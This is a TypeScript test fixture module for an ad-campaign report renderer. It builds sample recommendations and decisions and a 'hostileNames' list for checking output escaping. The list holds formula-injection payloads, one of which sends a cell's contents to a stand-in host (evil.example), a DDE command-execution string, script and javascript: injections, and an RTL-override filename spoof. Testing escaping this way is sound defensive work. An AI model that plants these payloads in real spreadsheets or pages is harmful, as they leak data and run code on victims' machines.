import type { Decision, Verdict } from '../../src-shared/model/decision.ts';
import { newId } from '../../src-shared/model/ids.ts';
import type { WordedRecommendation } from '../../src-shared/model/recommendation.ts';
import {
  defaultReportSettings,
  type ReportFormat,
  type ReportLayout,
} from '../../src-shared/model/reporting.ts';
import type { WordedDiagnosis } from '../../src-shared/model/wordedDiagnosis.ts';
import { cleanCases } from '../diagnosis/causes.fixture.ts';
import { diagnose } from '../diagnosis/diagnose.ts';
import { worded } from '../diagnosis/explain/worded.ts';
import { buildReport } from './build.ts';
import type { Report, ReportInput, ReportSource } from './model.ts';
import { renderReport } from './render.ts';

/** A campaign whose rivals bid it up, diagnosed by the engine. */
export const exampleDiagnosis: WordedDiagnosis = diagnosed();

function diagnosed(): WordedDiagnosis {
  const input = cleanCases.find(({ cause }) => cause === 'competitive_pressure')?.input(1);
  if (input === undefined) throw new Error('there is no such case');
  return worded(diagnose(input));
}

/** What a person or a rival may have called a thing: formulas, markup, marks that reorder, 300 characters. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</style><style>*{display:none}',
  '"><a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1)) | `code` # not a heading',
  '\u202egnp.exe\u202c reversed',
  'חנות נעליים | חיפוש',
  'x'.repeat(300),
] as const;

export function recommendationOf(change: Partial<WordedRecommendation> = {}): WordedRecommendation {
  return {
    id: newId(),
    runId: newId(),
    campaignId: exampleDiagnosis.campaignId,
    campaignName: 'Spring Sale 2026',
    platform: 'google_ads',
    createdAt: '2026-11-16T06:00:00.000Z',
    state: 'open',
    snoozedUntil: null,
    diagnosis: exampleDiagnosis,
    decided: null,
    decisions: [],
    ...change,
  };
}

export function decisionOf(verdict: Verdict, change: Partial<Decision> = {}): Decision {
  const { parameters } = exampleDiagnosis;
  return {
    id: newId(),
    recommendationId: newId(),
    verdict,
    decidedAt: '2026-11-16T09:00:00.000Z',
    decidedBy: 'Ana',
    action: verdict.kind === 'approve' ? { approved: parameters, recommended: parameters } : null,
    undoneBy: null,
    ...change,
  };
}

export const sourceOf = (recommendation: WordedRecommendation): ReportSource => ({
  recommendation,
  latest: recommendation.diagnosis,
  whatIfs: [],
});

export function inputOf(sources: readonly ReportSource[], change: Partial<ReportInput> = {}): ReportInput {
  return {
    scope: { kind: 'selection', ids: sources.map(({ recommendation }) => recommendation.id) },
    layout: 'full',
    wording: 'expert',
    settings: defaultReportSettings,
    madeBy: 'Ana',
    today: '2026-11-30',
    dayOf: (instant) => instant.slice(0, 10),
    sources,
    unread: [],
    ...change,
  };
}

export const reportOf = (sources: readonly ReportSource[], change: Partial<ReportInput> = {}): Report =>
  buildReport(inputOf(sources, change));

/** The file of hostile campaigns, each decided by somebody with a hostile name. */
export async function hostileFile(format: ReportFormat, layout: ReportLayout): Promise<string> {
  const sources = hostileNames.map((name) =>
    sourceOf(
      recommendationOf({
        campaignName: name,
        campaignId: name,
        state: 'rejected',
        decisions: [
          decisionOf({ kind: 'reject', category: 'wrong_decision_unclear', text: name }, { decidedBy: name }),
        ],
      }),
    ),
  );
  const settings = { ...defaultReportSettings, company: '</title><script>alert(1)</script>' };
  return String(await renderReport(reportOf(sources, { layout, settings, madeBy: hostileNames[0] }), format));
}
